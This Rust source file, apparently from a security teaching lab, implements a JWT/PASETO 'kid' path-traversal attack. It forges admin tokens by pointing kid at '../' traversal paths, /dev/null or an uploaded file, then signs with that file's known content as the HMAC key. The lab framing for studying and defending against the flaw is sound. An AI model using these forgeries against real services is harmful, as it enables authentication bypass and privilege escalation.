//! Path traversal through `kid`: the attacker points at a file whose content
//! she knows.
//!
//! The flawed assumption: a key's name names something in the folder of keys.
//! Nothing has authenticated it, and `../` leads out. RFC 8725 §3.10 demands
//! that a lookup by `kid` is safe from such input. Related: SmallRye JWT's
//! `AwsAlbKeyResolver` put `kid` into a URL (CVE-2026-81829); no CVE of a
//! library that reads files by `kid` is known to this lab.
//!
//! PASETO footers carry the same hazard (Payload-Processing, Key-ID Support).
//! One thing is better there: a key has a fixed length, so an empty file or a
//! text that the server serves is no key. A file that the attacker uploaded is.

use serde_json::Value;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::hs::Hs;
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct KidPathTraversal;

static PROFILE: AttackProfile = AttackProfile {
    id: "kid-path-traversal",
    title: "Path traversal through the key's name",
    assumption: "A key's name can be used as a path, since it names a file in the folder of keys.",
    breaks: &[Weakness::KidAsPath],
    references: &[
        (
            "RFC 8725 §3.10",
            "An application that uses kid for a lookup makes sure that no injection is possible.",
        ),
        ("RFC 7515 §4.1.4", "kid is a hint of unspecified structure."),
        (
            "CVE-2026-81829",
            "SmallRye JWT's AwsAlbKeyResolver joins kid to a URL, which allows traversal: the nearest library CVE.",
        ),
        (
            "PASETO, Payload-Processing, Key-ID Support",
            "The footer may name a key, and is unauthenticated until the token is verified.",
        ),
    ],
    lesson: include_str!("../../lessons/kid-path-traversal.md"),
};

/// Enough to reach the root of any file system from a temporary folder.
const UP_TO_THE_ROOT: &str = "../../../../../../../../../../..";

impl Attack for KidPathTraversal {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let [served, uploaded] = view.known_files();
        let mut forgeries = Vec::new();
        if let Scheme::Jwt(algorithm) = view.scheme() {
            let hs = Hs::of(algorithm).unwrap_or(Hs::S256);
            let served_kid = format!("../{}", served.path);
            let relative_null = format!("{UP_TO_THE_ROOT}/dev/null");
            for (variant, kid, content) in [
                ("served-file", served_kid.as_str(), served.content.as_slice()),
                ("dev-null", relative_null.as_str(), b"".as_slice()),
                ("dev-null-absolute", "/dev/null", b"".as_slice()),
            ] {
                forgeries.push(hmac_with(view, hs, variant, kid, content, notes)?);
            }
        } else {
            notes.step(
                "Leaves /dev/null and the served files alone: a PASETO key has a fixed length, and they have not.",
                "",
            );
        }
        forgeries.push(uploaded_key(view, uploaded.path, notes)?);
        Ok(forgeries)
    }
}

/// A token under the content of a file that is the same for everybody.
fn hmac_with(
    view: &AttackerView<'_>,
    hs: Hs,
    variant: &str,
    kid: &str,
    content: &[u8],
    notes: &mut Notebook,
) -> Result<Forgery, CannotForge> {
    let mut header = view.header_with_kid(kid);
    header.insert("alg".into(), hs.name().into());
    notes.variant_step(
        variant,
        "Names a path that leads out of the folder of keys, to a file that she knows.",
        Value::Object(header.clone()).to_string(),
    );
    notes.variant_step(
        variant,
        format!(
            "Signs the claims with that file's content, {} bytes, as the secret.",
            content.len()
        ),
        String::from_utf8_lossy(content),
    );
    let token = mint::jws(&header, view.wanted(), &Signature::Tag(hs, content.to_vec()))?;
    Ok(Forgery::new(variant, token))
}

/// A token of the target's own scheme, under a key that was uploaded as
/// something else.
fn uploaded_key(view: &AttackerView<'_>, path: &str, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "uploaded-file";
    let kid = format!("../{path}");
    notes.variant_step(
        variant,
        "Uploads a picture for her profile that is no picture but a key of her own.",
        path,
    );
    notes.variant_step(
        variant,
        format!(
            "Makes a {} token with that key, in which the subject is admin, and names the file as its key.",
            view.scheme()
        ),
        kid.as_str(),
    );
    let token = view.token_by_own_key(&kid)?;
    Ok(match view.scheme() {
        Scheme::Jwt(_) => Forgery::new(variant, token),
        Scheme::Paseto(..) => Forgery::analogue(
            variant,
            token,
            "PASETO has no kid header; the footer names the key instead",
        ),
    })
}
